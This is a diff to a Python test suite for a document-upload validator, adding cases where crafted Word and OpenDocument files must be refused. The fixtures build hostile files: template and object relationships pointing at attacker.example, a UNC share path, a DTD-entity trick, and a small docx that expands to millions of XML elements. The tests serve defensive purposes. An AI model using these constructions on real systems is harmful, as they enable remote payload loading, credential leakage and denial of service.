@@ -28,8 +28,9 @@ HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships
 XML = '<?xml version="1.0" encoding="UTF-8"?>'
 
 
-def docx(settings_rels: str) -> bytes:
-    """A minimal Word file whose settings attach the template `settings_rels` names (attack4-repro/mkdocx.py)."""
+def docx(settings_rels: str, attached: bool = True) -> bytes:
+    """A minimal Word file whose settings attach the template `settings_rels` names (attack4-repro/mkdocx.py);
+    not `attached`, its settings name no template."""
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
         z.writestr("[Content_Types].xml", XML + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
@@ -45,7 +46,7 @@ def docx(settings_rels: str) -> bytes:
                    f'Type="{HYPERLINK}" Target="https://www.gov.scot/" TargetMode="External"/></Relationships>')
         z.writestr("word/settings.xml", XML + '<w:settings xmlns:w="http://schemas.openxmlformats.org/'
                    'wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
-                   'relationships"><w:attachedTemplate r:id="rId1"/></w:settings>')
+                   'relationships">' + ('<w:attachedTemplate r:id="rId1"/>' if attached else "") + "</w:settings>")
         z.writestr("word/_rels/settings.xml.rels", settings_rels)
     return out.getvalue()
 
@@ -104,6 +105,11 @@ OFFICE = [
                              'oleObject" Target="https://attacker.example/o.bin" TargetMode="External"')), LOADS),
     ("t-link.docx", docx(rels(f'Id="rId1" Type="{HYPERLINK}" Target="file://attacker.example/s" '
                               'TargetMode="External"')), "a document may link only to web"),
+    # Tenth attacker: a template (or a picture) that takes a web address from
+    # a relationship typed as a hyperlink; the program follows the id.
+    ("t-typed.docx", docx(rels(f'Id="rId1" Type="{HYPERLINK}" Target="https://attacker.example/t.dotm" '
+                               'TargetMode="External"')), "loads an outside address (relationship `rId1`) into "
+                                                          "`attachedTemplate`"),
     ("t-dtd.docx", docx(XML + '<!DOCTYPE r [<!ENTITY e "External">]>' + rels(template(mode='TargetMode="&e;"'))[
         len(XML):]), "declares a DTD"),
     ("o-unc.odt", odt(odt_image('xlink:href="&#92;&#92;attacker.example&#92;share&#92;a.png"')),
@@ -118,7 +124,8 @@ OFFICE = [
 # A Word file linking to the web, and an OpenDocument file with its own
 # picture and a web link: published.
 GOOD_OFFICE = {
-    "fine.docx": docx(rels(f'Id="rId1" Type="{HYPERLINK}" Target="mailto:team@example.org" TargetMode="External"')),
+    "fine.docx": docx(rels(f'Id="rId1" Type="{HYPERLINK}" Target="mailto:team@example.org" TargetMode="External"'),
+                      attached=False),
     "fine.odt": odt('<office:body><office:text><text:p><text:a xlink:type="simple" xlink:href="https://www.gov.scot/">'
                     "web</text:a><draw:frame><draw:image xlink:href=\"Pictures/a.png\" xlink:type=\"simple\" "
                     'xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p></office:text></office:body>',
@@ -746,3 +753,14 @@ def test_an_image_the_checks_pass_is_one_typst_can_show(tmp_path, name):
     refused = image_problem(data, name.rsplit(".", 1)[1])
     assert shown or refused, f"{name}: passed by the checks, refused by Typst"
     assert name not in ("ok.png", "palette.png", "gamma.png", "jpeg.jpg", "progressive.jpg") or not refused, refused
+
+
+def test_an_office_document_of_millions_of_elements_is_refused_before_it_is_parsed():
+    """Tenth attacker: a 98 KB Word file of 95 MB of `<a/>` took 3.3 GB to
+    check; past MAX_OFFICE_ELEMENTS tags it is refused before lxml builds it."""
+    from resource_library.files import MAX_OFFICE_ELEMENTS, office_problem
+    out = io.BytesIO(word("word/document.xml", field(" PAGE ")))
+    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("word/big.xml", b"<r>" + b"<a/>" * MAX_OFFICE_ELEMENTS + b"</r>")
+    assert len(out.getvalue()) < 100_000
+    assert office_problem(out.getvalue(), "docx") == f"has more than {MAX_OFFICE_ELEMENTS:,} elements to check"
